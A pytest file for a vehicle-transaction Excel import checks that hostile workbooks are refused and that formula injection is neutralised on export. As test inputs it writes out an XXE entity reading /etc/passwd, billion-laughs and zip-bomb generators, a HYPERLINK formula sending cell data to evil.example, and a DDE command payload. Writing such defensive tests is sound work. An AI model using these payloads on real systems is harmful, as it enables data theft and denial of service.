"""Workbook attacks against the import (RELIABILITY.md scenario 14), each refused within seconds
with its code, and the reader/converter behaviour the import relies on."""
from __future__ import annotations

import io
import random
import time
import zipfile
from datetime import date

import openpyxl
import pytest
from autocirc_shared.errors import AppError
from autocirc_transactions.domain.checks import check_transaction
from autocirc_transactions.excel.columns import columns, headers, layout_of
from autocirc_transactions.excel.convert import payload_of, row_of, to_cell, unescape
from autocirc_transactions.excel.limits import ImportLimits
from autocirc_transactions.excel.reader import SheetReader
from autocirc_transactions.excel.rows import UploadedSheet
from autocirc_transactions.excel.safety import inspect_workbook
from autocirc_transactions.excel.template import example_record, template_bytes
from defusedxml import DefusedXmlException

SHEET = "xl/worksheets/sheet1.xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
          + "]>")


def replace_parts(data: bytes, parts: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    """A copy of a workbook with some parts replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in parts and info.filename not in drop:
                dst.writestr(info.filename, src.read(info.filename))
        for name, content in parts.items():
            dst.writestr(name, content)
    return out.getvalue()


def sheet_xml(rows: list[str], prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {NS}><sheetData>'
            + "".join(rows) + "</sheetData></worksheet>").encode()


def refused(data: bytes, limits: ImportLimits | None = None) -> AppError:
    started = time.perf_counter()
    with pytest.raises(AppError) as caught:
        UploadedSheet.check(data, limits or ImportLimits())
    assert time.perf_counter() - started < 15, "refused, but not within seconds"
    return caught.value


def test_the_template_and_its_example_row_pass():
    sheet = UploadedSheet.check(template_bytes(), ImportLimits())
    header, layout, rows = sheet.open()
    assert [h for h in header] == headers()
    (number, values), = list(rows)
    record, errors = check_transaction(payload_of(layout, values), today=date(2026, 1, 1))
    assert number == 2 and errors == [] and record is not None


def test_template_has_dropdowns_instructions_and_text_columns():
    wb = openpyxl.load_workbook(io.BytesIO(template_bytes()))
    assert wb.sheetnames[:2] == ["车辆交易信息", "填写说明"] and wb["选项"].sheet_state == "hidden"
    ws = wb["车辆交易信息"]
    lists = {str(v.formula1): str(v.sqref) for v in ws.data_validations.dataValidation}
    assert '"是,否"' in lists and len(lists) >= 8
    vehicle_type = headers().index("车辆类型") + 1
    letter = openpyxl.utils.get_column_letter(vehicle_type)
    assert any(letter + "2:" in sqref for sqref in lists.values())
    assert ws.cell(2, headers().index("买方身份证号/证件号码") + 1).number_format == "@"


@pytest.mark.parametrize("data", [b"just some text pretending to be xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
                                  b"%PDF-1.7\n"])
def test_non_xlsx_bytes_named_xlsx_are_415(data):
    assert (refused(data).status, refused(data).code) == (415, "import.type")


def test_a_zip_that_is_no_workbook_is_415():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("readme.txt", "hello")
    assert refused(out.getvalue()).code == "import.type"


def test_macro_workbook_is_415():
    with zipfile.ZipFile(io.BytesIO(template_bytes())) as z:
        types = z.read("[Content_Types].xml")
    macro = types.replace(b"spreadsheetml.sheet.main+xml", b"vnd.ms-excel.sheet.macroEnabled.main+xml") \
        .replace(b"application/vnd.openxmlformats-officedocument.vnd.ms-excel", b"application/vnd.ms-excel")
    error = refused(replace_parts(template_bytes(), {"[Content_Types].xml": macro, "xl/vbaProject.bin": b"\0" * 64}))
    assert (error.status, error.code) == (415, "import.type") and "宏" in error.detail
    error = refused(replace_parts(template_bytes(), {"xl/vbaProject.bin": b"\0" * 64}))
    assert error.code == "import.type"


def zip_bomb(mebibytes: int) -> bytes:
    """The import template with ``mebibytes`` MiB of zeros added (about 1 KB compressed per MiB)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template_bytes())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
        with z.open("xl/media/bomb.bin", "w", force_zip64=True) as member:
            zeros = b"\0" * (1 << 20)
            for _ in range(mebibytes):
                member.write(zeros)
    return out.getvalue()


def test_zip_bomb_is_413_without_inflating_it():
    bomb = zip_bomb(300)
    assert len(bomb) < 2 * 1024 * 1024
    error = refused(bomb)
    assert (error.status, error.code) == (413, "import.too_large")
    error = refused(template_bytes(), ImportLimits(max_uncompressed_bytes=10_000))
    assert (error.status, error.code) == (413, "import.too_large")


def test_oversized_upload_is_413():
    error = refused(template_bytes(), ImportLimits(max_bytes=1000))
    assert (error.status, error.code) == (413, "import.too_large")


@pytest.mark.parametrize("part", [SHEET, "[Content_Types].xml", "xl/workbook.xml"])
def test_entity_expansion_is_refused(part):
    with zipfile.ZipFile(io.BytesIO(template_bytes())) as z:
        original = z.read(part).decode()
    body = original.split("?>", 1)[1] if original.startswith("<?xml") else original
    bomb = f'<?xml version="1.0" encoding="UTF-8"?>{LAUGHS}{body}'.replace("李四", "&lol9;", 1).encode()
    error = refused(replace_parts(template_bytes(), {part: bomb}))
    assert (error.status, error.code) == (422, "import.unsafe")


def test_external_entities_and_utf16_tricks_are_refused():
    xxe = sheet_xml(['<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'],
                    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    assert refused(replace_parts(template_bytes(), {SHEET: xxe})).code == "import.unsafe"
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><worksheet/>'.encode("utf-16")
    assert refused(replace_parts(template_bytes(), {SHEET: utf16})).code == "import.corrupt"


def test_openpyxl_itself_is_guarded_by_defusedxml():
    assert openpyxl.DEFUSEDXML is True
    bomb_types = f'<?xml version="1.0"?>{LAUGHS}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&lol9;</Types>'
    with pytest.raises((DefusedXmlException, ValueError, KeyError)):
        openpyxl.load_workbook(io.BytesIO(replace_parts(template_bytes(), {"[Content_Types].xml": bomb_types.encode()})))


def test_a_million_rows_are_refused_in_seconds():
    rng = random.Random(7)
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{rng.random()}</v></c></row>' for r in range(1, 1_000_002))
    data = replace_parts(template_bytes(), {SHEET: sheet_xml([rows])})
    error = refused(data)
    assert (error.status, error.code) == (422, "import.too_many_rows")
    assert refused(template_bytes(), ImportLimits(max_rows=0)).code == "import.too_many_rows"


def test_formulas_are_read_as_text_and_exported_neutralised():
    wb = openpyxl.load_workbook(io.BytesIO(template_bytes()))
    ws = wb["车辆交易信息"]
    ws.cell(2, 1).value = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    ws.cell(2, headers().index("买方单位/个人住址") + 1).value = "=1+1"
    ws.cell(3, 1).value = "@SUM(1)"
    buf = io.BytesIO()
    wb.save(buf)
    sheet = UploadedSheet.check(buf.getvalue(), ImportLimits())
    _, layout, rows = sheet.open()
    (_, first), (_, second) = list(rows)
    payload = payload_of(layout, first)
    assert payload["buyer"]["name"].startswith("=HYPERLINK(") and payload["buyer"]["address"] == "=1+1"
    assert second[0] == "@SUM(1)"
    record, errors = check_transaction(payload, today=date(2026, 1, 1))
    assert errors == [], "formula text is plain text to the rules"
    exported = row_of(record.model_dump(mode="json"))
    assert exported[0].startswith("'=HYPERLINK(") and "'=1+1" in exported
    assert unescape(exported[0]) == payload["buyer"]["name"], "an export imports back unchanged"


def test_export_cells_are_safe_and_typed():
    by_header = dict(zip(headers(), columns()))
    assert to_cell(by_header["买方单位/个人名称"], "-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
    assert to_cell(by_header["买方单位/个人名称"], "\tx") == "'\tx"
    assert to_cell(by_header["车辆类型"], "K33") == "K33 小型轿车"
    assert to_cell(by_header["交易日期"], "2024-03-15") == date(2024, 3, 15)
    assert to_cell(by_header["买方是否企业"], False) == "否"


def test_reader_types_shared_strings_and_gaps():
    shared = ('<?xml version="1.0" encoding="UTF-8"?><sst ' + NS + '><si><t>甲</t></si>'
              '<si><r><t>乙</t></r><r><t>丙</t></r><rPh><t>yi</t></rPh></si></sst>').encode()
    rows = ['<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c></row>',
            '<row r="4"><c r="B4" t="b"><v>1</v></c><c r="C4"><v>12345678901</v></c><c r="D4"><v>1.5</v></c>'
            '<c r="E4" t="str"><f>A1&amp;"x"</f><v>甲x</v></c><c r="F4" t="e"><v>#N/A</v></c></row>']
    data = replace_parts(template_bytes(), {SHEET: sheet_xml(rows), "xl/sharedStrings.xml": shared})
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
                        'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    data = replace_parts(data, {"xl/_rels/workbook.xml.rels": rels.encode()})
    parts = inspect_workbook(data, ImportLimits(), "车辆交易信息")
    assert list(SheetReader(data, parts)) == [(1, ["甲", None, "乙丙"]),
                                              (4, [None, True, 12345678901, 1.5, '=A1&"x"', "#N/A"])]


def test_header_must_match_the_template():
    wb = openpyxl.Workbook()
    wb.active.title = "车辆交易信息"
    wb.active.append(["买方名称", "卖方名称"])
    wb.active.append(["a", "b"])
    buf = io.BytesIO()
    wb.save(buf)
    error = refused(buf.getvalue())
    assert (error.status, error.code) == (422, "import.header")
    shuffled = list(reversed(headers()))
    layout = layout_of(["*" + shuffled[0]] + shuffled[1:])
    assert [c.header for c in layout] == shuffled, "any order, a leading * is ignored"


def test_example_round_trips_through_the_columns():
    record, errors = check_transaction(example_record(), today=date(2026, 1, 1))
    assert errors == []
    stored = record.model_dump(mode="json")
    back, errors = check_transaction(payload_of(list(columns()), row_of(stored)), today=date(2026, 1, 1))
    assert errors == [] and back.model_dump(mode="json") == stored


def test_rows_are_counted_in_every_form_a_start_tag_takes():
    """The count looks for ``<row`` at memchr speed and for prefixed tags only where ``:row`` occurs: the same
    count as one pattern for both, across chunk boundaries (1 MiB) and never for look-alikes (<rowBreaks>)."""
    import re

    from autocirc_transactions.excel.safety import count_rows

    forms = ['<row r="{r}"><c r="A{r}"><v>1</v></c></row>', "<row>\n</row>", "<row/>", '<x:row r="{r}"></x:row>',
             "<s_1.a-b:row\t/>", "<rowBreaks/>", "<x:rowBreaks/>", "<c><is><t>row </t></is></c>"]
    rng = random.Random(5)
    body = "".join(rng.choice(forms).format(r=r) + " " * rng.randrange(60_000) for r in range(120))
    with zipfile.ZipFile(io.BytesIO(replace_parts(template_bytes(), {SHEET: sheet_xml([body])}))) as archive:
        expected = len(re.findall(rb"<(?:[A-Za-z_][\w.-]*:)?row[\s/>]", archive.read(SHEET)))
        assert count_rows(archive, SHEET) == expected > 60
